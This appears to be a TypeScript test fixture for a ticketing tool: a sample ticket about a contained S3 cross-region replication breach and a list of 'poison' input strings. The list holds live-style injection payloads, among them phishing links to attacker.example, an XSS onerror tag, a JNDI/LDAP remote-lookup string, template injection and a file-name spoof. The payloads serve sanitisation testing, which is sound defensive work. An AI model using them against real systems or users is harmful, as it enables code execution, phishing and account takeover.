import type { Ticket } from "../../shared/ticketing/ticket.ts";

/** A ticket as `ticketOf` makes it. */
export function someTicket(given: Partial<Ticket> = {}): Ticket {
  const sections = [
    { heading: "What happened", lines: ["Rule to-us sends data to us-east-1"] },
    {
      heading: "What was done",
      lines: ["Stopped, and verified by reading it again:", "Rules[to-us].Status", '  - "Enabled"', '  + "Disabled"'],
    },
    { heading: "How to undo it", lines: ['cordon rollback f-0123456789abcdef0123 --reason "..."'] },
  ];
  return {
    key: "f-0123456789abcdef0123",
    finding: "f-0123456789abcdef0123",
    title: "[CONTAINED] Bucket customer-records sends personal data to us-east-1",
    severity: "high",
    state: "contained",
    body: sections.map(({ heading, lines }) => [heading, ...lines.map((line) => `  ${line}`)].join("\n")).join("\n\n"),
    sections,
    labels: {
      control: "s3-replication-stays-in-jurisdiction",
      account: "111122223333",
      region: "eu-central-1",
      resource: "arn:aws:s3:::customer-records",
      resourceType: "AWS::S3::Bucket",
      firstSeenAt: "2026-11-27T08:00:00.000Z",
      requirements: ["GDPR Art. 44"],
    },
    isWaiting: false,
    occurrences: 1,
    updatedAt: "2026-11-27T08:00:02.000Z",
    version: 3,
    ...given,
  };
}

/** What strangers could name things, to ping people, break a message or lead somewhere. Control characters are taken out before (ticket.ts), and come in here all the same. */
export const POISON: readonly string[] = [
  "<!channel> <@U012AB3CD> <#C012AB3CD> <!here> <!subteam^S123>",
  "<https://attacker.example/login|Sign in to AWS>",
  "[Sign in](https://attacker.example) ![x](https://attacker.example/x.png) <img src=x onerror=alert(1)>",
  "@everyone @channel @someone #123 GH-1 someone/repo#4",
  "[~accountid:5b10a2844c20165700ede21g] {code} h1. {color:red} !x.png! [link|https://attacker.example]",
  "[code]<a href='https://attacker.example'>Sign in</a>[/code] $\u007bjndi:ldap://attacker.example/a} {{7*7}}",
  "`*_~> &amp; &lt;b&gt; \\ \" ' ```\n# heading\r\n- list",
  "https://attacker.example/login www.attacker.example mailto:a@attacker.example",
  "a\u0000b\u001b[31mred\u202egnp.exe\u2028line\ud800",
  "x".repeat(70_000),
];
